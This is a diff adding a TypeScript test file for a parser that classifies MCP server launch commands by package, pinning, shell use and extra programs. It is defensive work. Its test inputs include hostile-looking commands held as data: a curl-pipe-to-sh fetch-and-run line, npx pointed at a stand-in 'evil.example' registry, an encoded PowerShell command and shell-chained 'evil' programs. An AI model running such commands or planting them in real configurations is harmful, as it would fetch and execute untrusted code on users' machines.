@@ -1,0 +1,207 @@
+import { readLaunch } from '../../../src/discovery/mcp/launch.ts'
+
+interface Told {
+  readonly package?: string
+  readonly runs?: string
+  readonly unpinned?: true
+  readonly shell?: true
+}
+
+function told(entry: Record<string, unknown>, isFile = false): Told {
+  const { package: spec, runs, unpinned, shell } = readLaunch(entry, 'key', isFile)
+  return {
+    ...(spec === undefined ? {} : { package: `${spec.ecosystem} ${spec.name}` }),
+    ...(runs === undefined ? {} : { runs: `${runs.kind} ${runs.name}` }),
+    ...(unpinned ? { unpinned } : {}),
+    ...(shell ? { shell } : {}),
+  }
+}
+const started = (command: string, ...args: string[]) => told({ command, args })
+
+const FOO = { package: 'npm foo', unpinned: true } as const
+const PINNED = { package: 'npm foo' } as const
+const IN_SHELL = { ...FOO, shell: true } as const
+
+test.each<[command: string, args: readonly string[], expected: Told]>([
+  ['bash', ['-lc', 'source ~/.nvm/nvm.sh && npx -y foo'], IN_SHELL],
+  ['bash', ['-lc', '. ~/.nvm/nvm.sh; nvm use 20 >/dev/null; exec npx -y foo'], IN_SHELL],
+  ['bash', ['-c', 'eval "$(fnm env)" && npx -y foo 2>&1 | tee /tmp/log'], IN_SHELL],
+  ['bash', ['-o', 'pipefail', '-c', '-l', 'npx -y foo'], IN_SHELL],
+  ['sh', ['-c', 'cd /x && npx -y foo'], IN_SHELL],
+  ['sh', ['-c', 'if true; then npx -y foo; fi'], IN_SHELL],
+  ['sh', ['-c', '(cd /x; A=b npx -y foo)'], IN_SHELL],
+  ['sh', ['-c', 'eval "npx -y foo"'], IN_SHELL],
+  ['sh', ['-c', 'npx -y foo "$@"', 'sh', 'a'], IN_SHELL],
+  ['sh', ['-c', 'exec "$@"', 'sh', 'npx', '-y', 'foo'], IN_SHELL],
+  ['sh', ['-c', '$0 "$@"', 'npx', '-y', 'foo'], IN_SHELL],
+  ['/usr/bin/env', ['sh', '-c', 'npx -y foo'], IN_SHELL],
+  ['env', ['FOO=1', 'bash', '-c', 'npx -y foo'], IN_SHELL],
+  ['env', ['-S', 'bash -c "npx -y foo"'], IN_SHELL],
+  ['env', ['-S-u X A=b npx -y foo'], FOO],
+  ['env', ['-u', 'X', 'npx', '-y', 'foo'], FOO],
+  ['env', ['-i', '--chdir', '/x', 'A=b', 'npx', '-y', 'foo'], FOO],
+  ['node', ['/usr/lib/node_modules/npm/bin/npx-cli.js', '-y', 'foo'], FOO],
+  ['node', ['/usr/lib/node_modules/npm/bin/npm-cli.js', 'exec', 'foo'], FOO],
+  ['timeout', ['5', 'npx', '-y', 'foo'], FOO],
+  ['timeout', ['-k', '5', '10', 'npx', '-y', 'foo'], FOO],
+  ['nohup', ['npx', '-y', 'foo'], FOO],
+  ['sudo', ['-u', 'alice', 'A=b', 'npx', '-y', 'foo'], FOO],
+  ['nice', ['-n', '5', 'npx', '-y', 'foo'], FOO],
+  ['nice', ['nohup', 'timeout', '5', 'env', 'sudo', 'npx', '-y', 'foo'], FOO],
+  ['volta', ['run', '--node', '20', 'npx', '-y', 'foo'], FOO],
+  ['mise', ['exec', 'node@20', '--', 'npx', '-y', 'foo'], FOO],
+  ['asdf', ['exec', 'npx', '-y', 'foo'], FOO],
+  ['fnm', ['exec', '--using', '20', 'npx', '-y', 'foo'], FOO],
+  ['op', ['run', '--env-file', '.env', '--', 'npx', '-y', 'foo'], FOO],
+  ['wsl.exe', ['-d', 'Ubuntu', '--', 'npx', '-y', 'foo'], FOO],
+  ['wsl.exe', ['bash', '-c', 'npx -y foo'], IN_SHELL],
+  ['wsl.exe', ['cd /x && npx -y foo'], IN_SHELL],
+  ['busybox', ['sh', '-c', 'npx -y foo'], IN_SHELL],
+  ['su', ['-', 'alice', '-c', 'npx -y foo'], IN_SHELL],
+  ['ash', ['-c', 'npx -y foo'], IN_SHELL],
+  ['tcsh', ['-c', 'npx -y foo'], IN_SHELL],
+  ['nu', ['-c', 'npx -y foo'], IN_SHELL],
+  ['fish', ['--command=npx -y foo'], IN_SHELL],
+  ['cmd', ['/d', '/s', '/c', '"npx -y foo"'], IN_SHELL],
+  ['cmd.exe', ['/D/S/C', 'call', 'npx.cmd', '-y', 'foo'], IN_SHELL],
+  ['cmd', ['/c', 'C:\\Program Files\\nodejs\\npx.cmd', '-y', 'foo'], IN_SHELL],
+  ['cmd', ['/c', '""C:\\a b\\npx.cmd" -y foo"'], IN_SHELL],
+  ['cmd', ['/c', '"C:\\a b\\npx.cmd"'], { shell: true, runs: 'program npx' }],
+  ['cmd', ['/c', 'cd C:\\x && npx -y foo'], IN_SHELL],
+  ['powershell', ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-Comm', 'npx -y foo'], IN_SHELL],
+  ['powershell', ['-e', Buffer.from('npx -y foo', 'utf16le').toString('base64')], IN_SHELL],
+  ['pwsh', ['-c', '& "npx" -y foo'], IN_SHELL],
+  ['powershell.exe', ['npx', '-y', 'foo'], IN_SHELL],
+  ['npx', ['-c', 'bar --x'], { runs: 'program bar + npx', unpinned: true, shell: true }],
+  ['npx', ['-p', 'foo@1.0.0', '-c', 'foo --x'], { ...PINNED, runs: 'program foo', shell: true }],
+  ['npm', ['create', 'foo'], { package: 'npm create-foo', unpinned: true }],
+  ['npm', ['init', '@a', '--', '-x'], { package: 'npm @a/create', unpinned: true }],
+  ['npm', ['init', '@a/foo@latest'], { package: 'npm @a/create-foo', unpinned: true }],
+  ['pnpm', ['create', 'foo'], { package: 'npm create-foo', unpinned: true }],
+  ['python', ['-m', 'uv', 'tool', 'run', 'foo'], { package: 'pypi foo', unpinned: true }],
+  ['python3', ['-m', 'pipx', 'run', 'foo'], { package: 'pypi foo', unpinned: true }],
+  ['uv', ['run', 'https://x.example/canary/x.py'], { runs: 'address x.example/\u2026/x.py', unpinned: true }],
+  ['go', ['run', '-tags', 'x', 'github.com/a/b@latest'], { runs: 'repository github.com/a/b', unpinned: true }],
+  ['nerdctl', ['run', '-i', 'mcp/x'], { package: 'docker mcp/x', unpinned: true }],
+])('%s %j', (command, args, expected) => expect(started(command, ...args)).toEqual(expected))
+
+test.each<[string, Told]>([
+  ['/usr/bin/npx -y foo', FOO],
+  ['/bin/bash -c "curl -s https://x.example/canary|sh"', { runs: 'program sh + curl', shell: true }],
+  ['C:\\Program Files\\nodejs\\npx.cmd -y foo', FOO],
+  ['env A=b npx -y foo', FOO],
+  ['cd /x && npx -y foo', IN_SHELL],
+  ['node "/srv/my files/x.js" canary', { runs: 'script x.js' }],
+  ['/opt/mcp/server --token canary', {}],
+  ['/opt/mcp/server --url https://x.example/?a&canary', {}],
+  ['npx foo@1.0.0 --password a;canary|canary$(canary)', PINNED],
+  ['cd /x && npx foo@1.0.0 a;canary', { ...PINNED, shell: true }],
+])('a whole line: %s', (command, expected) => expect(told({ command })).toEqual(expected))
+
+test.each<[string, Told]>([
+  ['/opt/node modules/server', { runs: 'script modules/server' }],
+  ['/opt/bash -c things', { runs: 'program things', shell: true }],
+  ['/opt/npx it', { package: 'npm it', unpinned: true }],
+])('%s is a line, unless it is a file', (command, asLine) => {
+  expect([told({ command }), told({ command }, true)]).toEqual([asLine, {}])
+})
+
+test.each<[command: string, args: readonly string[], expected: Told]>([
+  ['bash', ['/srv/script.sh', '-c', 'canary'], { runs: 'script script.sh' }],
+  ['bash', ['--rcfile', '/x', '-c'], {}],
+  ['pwsh', ['-File', 'C:\\x\\server.ps1', '-c', 'canary'], { runs: 'script x/server.ps1' }],
+  ['fish', ['/srv/a.sh', '-c', 'canary'], { runs: 'script a.sh' }],
+  ['env', ['FOO=1', '/opt/server'], { runs: 'program server' }],
+  ['env', ['A=b', '/opt/server', '-c', 'canary'], { runs: 'program server' }],
+  ['timeout', ['5', 'npx', '-y', 'foo@1.0.0'], PINNED],
+  ['bash', ['-lc', 'source ~/.nvm/nvm.sh && npx -y foo@1.0.0'], { ...PINNED, shell: true }],
+  ['sudo', ['-u', 'alice', 'npx', '--no-install', 'foo'], PINNED],
+  ['node', ['npx-cli.js', '-y', 'foo@1.0.0'], PINNED],
+  ['node', ['/srv/npx-like/index.js', 'foo'], { runs: 'script npx-like/index.js' }],
+  ['python', ['-m', 'uv', 'run', 'server.py'], { runs: 'script server.py' }],
+  ['go', ['run', 'github.com/a/b@v1.2.3'], { runs: 'repository github.com/a/b' }],
+  ['go', ['run', './cmd/server'], {}],
+  ['go', ['run', 'github.com/a/b'], {}],
+  ['npm', ['init', '-y'], {}],
+  ['npm', ['run', 'create', 'foo'], {}],
+  ['mise', ['run', 'canary'], {}],
+  ['volta', ['install', 'canary'], {}],
+  ['/opt/x/start', ['/b', 'canary'], {}],
+  ['/opt/x/call', ['canary'], {}],
+  ['command', ['canary'], {}],
+  ['timeout', ['5'], {}],
+  ['env', ['A=canary'], {}],
+  ['sh', ['-c', 'command -v npx >/dev/null; echo canary; exec /opt/good'], { runs: 'program good', shell: true }],
+  ['sh', ['-c', 'cat <<END | /opt/good\ncanary one\nEND'], { runs: 'program good', shell: true }],
+  ['sh', ['-c', 'A=(canary) good # canary'], { runs: 'program good', shell: true }],
+])('%s %j is what it was', (command, args, expected) => expect(started(command, ...args)).toEqual(expected))
+
+test.each<[string, Record<string, unknown>, Told]>([
+  [
+    'another program first',
+    { command: 'sh', args: ['-c', 'evil; npx foo@1.0.0'] },
+    { ...PINNED, runs: 'program evil' },
+  ],
+  ['and behind', { command: 'sh', args: ['-c', 'npx foo@1.0.0; evil'] }, { ...PINNED, runs: 'program evil' }],
+  ['within', { command: 'sh', args: ['-c', 'npx foo@1.0.0 "$(evil canary)"'] }, { ...PINNED, runs: 'program evil' }],
+  ['another package', { command: 'sh', args: ['-c', 'npx bar; npx foo@1.0.0'] }, { ...FOO, runs: 'program bar' }],
+  ['a script', { command: 'sh', args: ['-c', 'npx foo@1.0.0; node /x/a.js'] }, { ...PINNED, runs: 'script a.js' }],
+  [
+    'what passes for another by its name',
+    { command: 'sh', args: ['-c', 'npx foo@1.0.0 | /tmp/tee'] },
+    { ...PINNED, runs: 'program tee' },
+  ],
+])('what else a line runs is told: %s', (_, entry, expected) => {
+  expect(told(entry)).toEqual({ ...expected, shell: true })
+})
+
+const EVIL = 'https://evil.example/canary'
+test.each<[string, Record<string, unknown>, string]>([
+  ['=', { command: 'npx', args: [`--registry=${EVIL}`, '-y', 'foo@1.0.0'] }, 'evil.example'],
+  ['its value', { command: 'npx', args: ['--registry', EVIL, 'foo@1.0.0'] }, 'evil.example'],
+  ['cut short', { command: 'npx', args: [`--reg=${EVIL}`, 'foo@1.0.0'] }, 'evil.example'],
+  ['of a scope', { command: 'npx', args: [`--@a:registry=${EVIL}`, 'foo@1.0.0'] }, 'evil.example'],
+  ['behind the package', { command: 'npm', args: ['exec', 'foo@1.0.0', `--registry=${EVIL}`] }, 'evil.example'],
+  ['a file', { command: 'npx', args: ['--userconfig', '/canary', 'foo@1.0.0'] }, '\u2026'],
+  ['a variable', { command: 'npx', args: ['foo@1.0.0'], env: { NPM_CONFIG_REGISTRY: EVIL } }, '\u2026'],
+  ['before it', { command: 'env', args: [`npm_config_registry=${EVIL}`, 'npx', 'foo@1.0.0'] }, '\u2026'],
+  ['exported', { command: 'sh', args: ['-c', `export npm_config_registry=${EVIL}; npx foo@1.0.0`] }, '\u2026'],
+  ['a secret', { command: 'npx', args: [`--registry=https://ghp_${'a'.repeat(36)}.x`, 'foo@1.0.0'] }, '\u2026'],
+])('another registry is told, and nobody knows what it hands out: %s', (_, entry, host) => {
+  expect(told(entry)).toMatchObject({ ...FOO, runs: `address ${host}` })
+  expect(JSON.stringify(readLaunch(entry, 'key'))).not.toContain('canary')
+})
+
+test.each<[string, Record<string, unknown>]>([
+  ['the usual one', { command: 'npx', args: ['--registry=https://registry.npmjs.org/', 'foo@1.0.0'] }],
+  [
+    'in a variable',
+    { command: 'npx', args: ['foo@1.0.0'], env: { npm_config_registry: 'https://registry.npmjs.org' } },
+  ],
+  ['an empty one', { command: 'npx', args: ['foo@1.0.0'], env: { npm_config_registry: '' } }],
+  ['of others', { command: 'npx', args: ['foo@1.0.0'], env: { UV_INDEX_URL: EVIL } }],
+  ['behind the package, where that is the program\u2019s', { command: 'npx', args: ['foo@1.0.0', '--registry=x'] }],
+  ['where nothing is fetched', { command: 'npx', args: ['--registry=x', '--no-install', 'foo@1.0.0'] }],
+])('no other registry: %s', (_, entry) => expect(told(entry)).toEqual(PINNED))
+
+test('of PyPI likewise', () => {
+  const index = { package: 'pypi foo', runs: 'address evil.example', unpinned: true }
+  expect(started('uvx', '--extra-index-url', EVIL, 'foo==1.0')).toEqual(index)
+  expect(started('uvx', '--index', `name=${EVIL}`, 'foo==1.0')).toEqual(index)
+  expect(started('uvx', '--default-index', 'https://pypi.org/simple', 'foo==1.0')).toEqual({ package: 'pypi foo' })
+})
+
+test('what nobody can follow to its end may fetch anything', () => {
+  const deep = Array.from({ length: 20 }, () => 'nohup')
+  expect(started('nohup', ...deep, 'npx', 'foo@1.0.0').unpinned).toBe(true)
+  expect(started('sh', '-c', `${'true;'.repeat(100)}npx foo@1.0.0`).unpinned).toBe(true)
+  expect(started('sh', '-c', `/opt/good\n"`).unpinned).toBe(true)
+})
+
+test('words that are named again and again are followed to a bound', () => {
+  const large = 'x'.repeat(1_000_000)
+  const startedAt = performance.now()
+  expect(started('sh', '-c', 'eval $1 $1;'.repeat(64), 'sh', `eval ${'$@ '.repeat(200)}`, large).shell).toBe(true)
+  expect(started('sh', '-c', `eval ${'"$1" '.repeat(250)};`.repeat(60), 'sh', large).unpinned).toBe(true)
+  expect(performance.now() - startedAt).toBeLessThan(5_000)
+})
